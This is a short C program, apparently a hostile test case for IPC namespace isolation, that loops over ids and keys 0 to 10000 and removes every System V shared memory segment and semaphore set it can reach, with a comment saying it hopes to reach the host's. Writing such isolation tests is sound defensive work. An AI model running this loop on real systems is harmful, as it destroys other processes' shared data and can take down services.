/* Hostile: removes every segment and semaphore set with an id from 0 to
 * 10000, and every key from 0 to 10000, hoping to reach the host's. */
#include <stddef.h>
#include <sys/sem.h>
#include <sys/shm.h>

int main(void)
{
    int id;

    for (id = 0; id <= 10000; id++) {
        int k;

        shmctl(id, IPC_RMID, NULL);
        semctl(id, 0, IPC_RMID);
        if ((k = shmget((key_t)id, 0, 0)) != -1)
            shmctl(k, IPC_RMID, NULL);
    }
    return 0;
}
